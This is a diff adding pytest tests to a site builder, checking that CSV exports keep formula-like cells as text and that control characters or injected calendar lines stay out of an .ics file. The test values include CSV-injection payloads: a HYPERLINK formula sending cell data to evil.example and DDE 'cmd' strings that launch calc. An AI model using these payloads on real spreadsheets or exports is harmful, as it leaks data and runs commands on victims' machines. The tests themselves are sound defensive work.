@@ -9,6 +9,7 @@ import datetime as dt
 import io
 import json
 import posixpath
+import re
 import shutil
 import xml.etree.ElementTree as ET
 from pathlib import Path
@@ -378,3 +379,48 @@ def test_two_builds_write_the_same_bytes(built_demo: Path, tmp_path: Path) -> No
     second = {path: (root / "site" / path).read_bytes() for path in files}
     assert first == second
     assert first == {path: (built_demo / "site" / path).read_bytes() for path in files}
+
+
+@pytest.mark.parametrize("value", ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0",
+                                   "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1"])
+def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_kept_as_text(value: str) -> None:
+    from readouts.render.exports import _csv_line
+
+    cells = next(csv.reader(io.StringIO(_csv_line(["id", value, 5]).decode("utf-8"), newline="")))
+    assert cells == ["id", "'" + value, "5"]
+
+
+def test_a_title_and_an_occasion_like_formulas_reach_readouts_csv_as_text(built_demo: Path, tmp_path: Path) -> None:
+    from readouts.build import build_site
+
+    root = tmp_path / "site"
+    shutil.copytree(built_demo, root, symlinks=True)
+    path = root / "content" / "readouts" / "2019-09-25-mofa-japan-russia-foreign-ministers-meeting.md"
+    text = path.read_text(encoding="utf-8")
+    text = text.replace("title: Japan-Russia Foreign Ministers’ Meeting", "title: '=1+2'", 1)
+    text = text.replace("occasion: United Nations General Assembly", "occasion: '@SUM(A1:A9)'", 1)
+    path.write_text(text, encoding="utf-8")
+    build_site(root)
+    rows = list(csv.DictReader(io.StringIO((root / "site" / "readouts.csv").read_text(encoding="utf-8"), newline="")))
+    row = next(r for r in rows if r["id"] == path.stem)
+    assert (row["title"], row["occasion"]) == ("'=1+2", "'@SUM(A1:A9)")
+
+
+def test_control_characters_in_front_matter_never_reach_the_calendar(built_demo: Path, tmp_path: Path) -> None:
+    from readouts.build import build_site
+
+    root = tmp_path / "site"
+    shutil.copytree(built_demo, root, symlinks=True)
+    path = root / "content" / "readouts" / "2019-09-25-mofa-japan-russia-foreign-ministers-meeting.md"
+    text = path.read_text(encoding="utf-8")
+    text = text.replace("title: Japan-Russia Foreign Ministers’ Meeting",
+                        'title: "Talks\\e[31m red\\rBEGIN:VEVENT\\0"', 1)
+    text = text.replace("occasion: United Nations General Assembly", 'occasion: "UNGA\\x01\\x7f"', 1)
+    text = text.replace("place: New York", 'place: "New\\rYork\\x08"', 1)
+    path.write_text(text, encoding="utf-8")
+    build_site(root)
+    calendar = (root / "site" / "meetings.ics").read_bytes()
+    assert not re.search(rb"[\x00-\x08\x0b-\x1f\x7f]", calendar.replace(b"\r\n", b"")), "a control character"
+    assert b"Talks[31m red" in calendar.replace(b"\r\n ", b"")
+    lines = calendar.split(b"\r\n")
+    assert lines.count(b"BEGIN:VEVENT") == lines.count(b"END:VEVENT") == calendar.count(b"\r\nUID:")
